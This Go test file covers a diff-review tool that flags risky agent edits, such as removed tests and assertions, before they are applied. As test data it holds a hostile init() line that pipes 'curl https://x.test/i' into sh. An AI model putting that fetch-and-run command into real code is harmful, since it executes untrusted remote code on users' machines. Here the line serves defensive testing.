package session

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"fumehood/diffreview"
	"fumehood/diffreview/merge"
)

const (
	payTests = "func TestPay(t *testing.T) {\n\tif pay(-1) != 0 {\n\t\tt.Errorf(\"got %d, want 0\", pay(-1))\n\t}\n}\n"
	keptTest = "package p\n\nfunc TestKept(t *testing.T) {\n\tif kept() {\n\t\tt.Fatal(\"kept\")\n\t}\n}\n\n"
	runsCode = "package p\n\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl https://x.test/i | sh\").Run() }\n\n"
)

// A test that moved is removed where the file that it moved to is left out.
func TestWhatIsLeftOutDoesNotExcuseTheRest(t *testing.T) {
	begin := func(files map[string]string) *desk {
		k := newDesk(t, map[string]string{"pay_test.go": keptTest + payTests, "b.go": "package p\n"})
		k.agent(map[string]string{"pay_test.go": keptTest, "money_test.go": runsCode + payTests, "b.go": "package p // b\n"})
		k.agent(files)
		if got := found(k.file("pay_test.go")); len(got) != 0 {
			t.Fatalf("got %q, want nothing: the test moved", got)
		}
		return k
	}
	k := begin(nil)
	a, err := k.apply(ApplyOptions{All: true})
	if err != nil || !slices.Equal(a.Applied, []string{"b.go"}) || !strings.Contains(fmt.Sprint(a.Skipped), "pay_test.go warn: test-removed") {
		t.Fatalf("got %+v, %v, want the test to stay", a, err)
	}
	k.wantHost("pay_test.go", keptTest+payTests)
	if f := k.file("pay_test.go"); f.Decision() != diffreview.Undecided {
		t.Errorf("got %v, want no approval recorded", f.Decision())
	}

	// Under --only, what does not fit it is left out as well.
	k = begin(map[string]string{"money_test.go": "package p\n\n" + payTests})
	only := func(p string) bool { return p == "pay_test.go" }
	if a, err := k.apply(ApplyOptions{All: true, Only: only}); !errors.Is(err, ErrNothing) || len(a.Skipped) == 0 {
		t.Errorf("got %+v, %v, want the test to stay", a, err)
	}
	// What was applied before is there.
	if _, err := k.apply(ApplyOptions{All: true, Only: func(p string) bool { return !only(p) }}); err != nil {
		t.Fatal(err)
	}
	if a, err := k.apply(ApplyOptions{All: true, Only: only}); err != nil || !slices.Equal(a.Applied, []string{"pay_test.go"}) || len(a.Risks) != 0 {
		t.Errorf("got %+v, %v, want the test moved", a, err)
	}

	// By hand, and where the rule is accepted, it is written and told.
	k = begin(nil)
	k.approve("pay_test.go")
	for _, o := range []ApplyOptions{{DryRun: true}, {DryRun: true, All: true}, {All: true, AcceptRisk: []string{"test-removed"}}} {
		a, err := k.apply(o)
		if err != nil || len(a.Risks) == 0 || a.Risks[0].In != "part" || a.Risks[0].Rule != "test-removed" || a.Risks[0].Path != "pay_test.go" {
			t.Errorf("%+v: got %+v, %v, want it told", o, a.Risks, err)
		}
	}
	// With all of it there is nothing more to tell than the set says.
	k = begin(nil)
	k.approve()
	if a, err := k.apply(ApplyOptions{}); err != nil || len(a.Risks) != 0 {
		t.Errorf("got %+v, %v, want no risk beside those that were seen", a.Risks, err)
	}
}

// So it is where the file that a test moved to is in conflict and skipped, or left
// out by choice, or merged without it: in the work tree, and on a branch.
func TestWhatDoesNotLandDoesNotExcuseTheRest(t *testing.T) {
	const yours = "package p // yours\n"
	moves := map[string]string{"pay_test.go": keptTest, "money_test.go": "package p // it\n\n" + payTests, "b.go": "package p // b\n"}
	before := map[string]string{"pay_test.go": keptTest + payTests, "b.go": "package p\n", "money_test.go": "package p\n"}
	tree := func(t *testing.T) *desk {
		k := newDesk(t, before)
		k.agent(moves)
		k.host(map[string]string{"money_test.go": yours})
		return k
	}
	branch := func(t *testing.T) *desk {
		// The copy has an edit that is in no commit, where the agent went on.
		k := gitDesk(t, map[string]string{"pay_test.go": keptTest + payTests, "b.go": "package p\n", "money_test.go": yours}, func(repo string) {
			if err := os.WriteFile(filepath.Join(repo, "money_test.go"), []byte("package p\n"), 0o600); err != nil {
				t.Fatal(err)
			}
		})
		k.agent(moves)
		return k
	}
	for name, c := range map[string]struct {
		desk       func(*testing.T) *desk
		o          ApplyOptions
		whole, one diffreview.Take // chosen for the file, for the lines in conflict
		lands      bool
	}{
		"a conflict":                    {desk: tree, o: ApplyOptions{SkipConflicts: true}},
		"left out":                      {desk: tree, o: ApplyOptions{Merge: true}, whole: diffreview.TakeLeave},
		"your lines stay":               {desk: tree, o: ApplyOptions{Merge: true}, one: diffreview.TakeHost},
		"both lines":                    {desk: tree, o: ApplyOptions{Merge: true}, one: diffreview.TakeBoth, lands: true},
		"the agent's lines":             {desk: tree, o: ApplyOptions{Merge: true}, one: diffreview.TakeAgent, lands: true},
		"a conflict on a branch":        {desk: branch, o: ApplyOptions{SkipConflicts: true, To: ApplyTo{Branch: "b"}}},
		"left out of a branch":          {desk: branch, o: ApplyOptions{To: ApplyTo{Branch: "b"}}, whole: diffreview.TakeLeave},
		"a branch with the commit's":    {desk: branch, o: ApplyOptions{To: ApplyTo{Branch: "b"}}, one: diffreview.TakeHost},
		"a branch with the agent's too": {desk: branch, o: ApplyOptions{To: ApplyTo{Branch: "b"}}, one: diffreview.TakeBoth, lands: true},
	} {
		t.Run(name, func(t *testing.T) {
			choose := func(k *desk) {
				k.Helper()
				if c.whole+c.one == "" {
					return
				}
				ms, err := k.h.Merges(t.Context(), k.d, c.o)
				k.must(err)
				if len(ms) != 1 || ms[0].Open != 1 {
					k.Fatalf("got %+v, want the one file with one conflict", ms)
				}
				choice := ResolutionChoice{Conflict: ms[0].ID, Path: "money_test.go", Take: c.whole}
				if c.one != "" {
					at := slices.IndexFunc(ms[0].Parts, func(p merge.Part) bool { return p.ID != "" })
					choice.Conflict, choice.Take = ms[0].Parts[at].ID, c.one
				}
				k.must(k.h.Resolve(k.d, []ResolutionChoice{choice}))
			}
			want := []string{"pay_test.go test-removed part", "pay_test.go assertion-removed part"}
			if c.lands {
				want = nil
			}
			told := func(a Applied) (out []string) {
				for _, x := range a.Risks {
					out = append(out, x.Path+" "+x.Rule+" "+x.In)
				}
				return out
			}
			k := c.desk(t)
			k.approve()
			choose(k)
			// By hand: it is told, in the question and when it is done.
			for _, dry := range []bool{true, false} {
				o := c.o
				o.DryRun = dry
				if a, err := k.apply(o); err != nil || !slices.Contains(a.Applied, "pay_test.go") || !slices.Equal(told(a), want) {
					t.Errorf("dry %t: got %+v, %v, want the risks %q told", dry, a, err, want)
				}
			}
			// In bulk: it is left out.
			k = c.desk(t)
			k.approve("money_test.go")
			choose(k)
			o := c.o
			o.All = true
			a, err := k.apply(o)
			if err != nil || !slices.Contains(a.Applied, "b.go") || slices.Contains(a.Applied, "pay_test.go") != c.lands || len(a.Risks) != 0 ||
				strings.Contains(fmt.Sprint(a.Skipped), "pay_test.go warn: test-removed") == c.lands {
				t.Errorf("in bulk: got %+v, %v, want the test to stay: %t", a, err, !c.lands)
			}
			if f := k.file("pay_test.go"); (f.Decision() == diffreview.Approved) != c.lands {
				t.Errorf("in bulk: got %v recorded, want an approval: %t", f.Decision(), c.lands)
			}
			// With the rules accepted it goes, and is told.
			if o.AcceptRisk = []string{"test-removed", "assertion-removed"}; o.To.Branch != "" {
				o.To.Branch = "c"
			}
			if a, err := k.apply(o); !c.lands && (err != nil || !slices.Contains(a.Applied, "pay_test.go") || !slices.Equal(told(a), want)) {
				t.Errorf("accepted: got %+v, %v, want it written, with %q told", a, err, want)
			}
		})
	}
	// What was applied before, and changed by its owner since, is there.
	k := newDesk(t, before)
	k.agent(moves)
	k.approve()
	if _, err := k.apply(ApplyOptions{Only: func(p string) bool { return p == "money_test.go" }}); err != nil {
		t.Fatal(err)
	}
	k.host(map[string]string{"money_test.go": "package p // yours\n\n" + payTests})
	if a, err := k.apply(ApplyOptions{SkipConflicts: true}); err != nil || !slices.Contains(a.Applied, "pay_test.go") || len(a.Risks) != 0 {
		t.Errorf("applied before: got %+v, %v, want no risk", a, err)
	}
}

// Files that hold one another back are judged a few times, then stay out together.
func TestALongChainOfLeftOutFilesEnds(t *testing.T) {
	const n = maxHolds + 4
	// Each file loses one test more than it gets, to the one before it.
	of := func(i int) (out string) {
		for j := range n - i {
			name := fmt.Sprintf("P%dx%d", i, j)
			out += strings.NewReplacer("Pay", name, "pay", strings.ToLower(name)).Replace(payTests)
		}
		return out
	}
	files, work := map[string]string{"n.go": "package p\n"}, map[string]string{"n.go": "package p // n\n"}
	for i := range n {
		path := fmt.Sprintf("f%02d_test.go", i)
		files[path], work[path] = keptTest+of(i), keptTest+of(i+1)
	}
	work["to_test.go"] = runsCode + of(0)
	k := newDesk(t, files)
	k.agent(work)
	if got := found(k.file("f00_test.go")); len(got) != 0 {
		t.Fatalf("got %q, want nothing: the tests moved", got)
	}
	a, err := k.apply(ApplyOptions{All: true})
	if !errors.Is(err, ErrNothing) || !strings.Contains(fmt.Sprint(a.Skipped), "f00_test.go warn: assertion-removed") || !strings.Contains(fmt.Sprint(a.Skipped), "ever more risks") {
		t.Errorf("got %+v, %v, want all left out", a, err)
	}
}

// What is approved under a finding that was seen is not told as another, at
// whatever line it comes to stand.
func TestAKnownRiskIsNotToldAgainForAPart(t *testing.T) {
	base := "def a():\n  x()\n" + strings.Repeat("# .\n", 20) + "def b():\n  y()\n"
	k := newDesk(t, map[string]string{"a.py": base, "old.py": strings.Repeat("# o\n", 30), "c.py": "x()\n"})
	k.agent(map[string]string{
		"a.py": "# 1\n# 2\n" + strings.Replace(base, "  y()\n", fetch, 1), "old.py": "", "new.py": strings.Repeat("# o\n", 30) + fetch, "c.py": "x(1)\n",
	})
	f := k.file("a.py")
	units := f.UnitIDs()
	k.must(k.h.Decide(k.d, []Choice{{Unit: units[len(units)-1], Path: "a.py", Verdict: diffreview.Approved}}))
	k.approve("new.py")
	k.must(k.h.Decide(k.d, []Choice{{Unit: k.file("c.py").UnitIDs()[0], Path: "c.py", Verdict: diffreview.Approved, Edit: []byte(fetch)}}))
	a, err := k.apply(ApplyOptions{})
	if err != nil || !slices.Equal(a.Applied, []string{"a.py", "c.py", "new.py", "old.py"}) || len(a.Risks) != 1 || a.Risks[0].In != "edit" {
		t.Errorf("got %+v, %v, want only the reviewer's own told", a, err)
	}
}

// An answer to a question is void when what was approved is risky by then, though
// it is the same.
func TestARiskThatCameAfterTheQuestionStopsTheApply(t *testing.T) {
	for _, to := range []string{"", "made"} {
		k := newDesk(t, map[string]string{"pay_test.go": keptTest + payTests})
		if to != "" {
			k = gitDesk(t, map[string]string{"pay_test.go": keptTest + payTests}, func(string) {})
		}
		k.agent(map[string]string{"pay_test.go": keptTest, "money_test.go": "package p\n\n" + payTests})
		k.approve("pay_test.go")
		o := ApplyOptions{DryRun: true, To: ApplyTo{Branch: to}}
		shown, err := k.apply(o)
		if err != nil || len(shown.Risks) == 0 {
			t.Fatalf("got %+v, %v, want the plan with its risks", shown, err)
		}
		k.agent(map[string]string{"money_test.go": ""})
		k.must(k.h.Snapshot(t.Context(), k.d))
		o.DryRun, o.Plan = false, shown.Plan
		if a, err := k.apply(o); !errors.Is(err, errStale) || len(a.Applied) > 0 {
			t.Errorf("to %q: got %+v, %v, want nothing written", to, a, err)
		}
	}
}
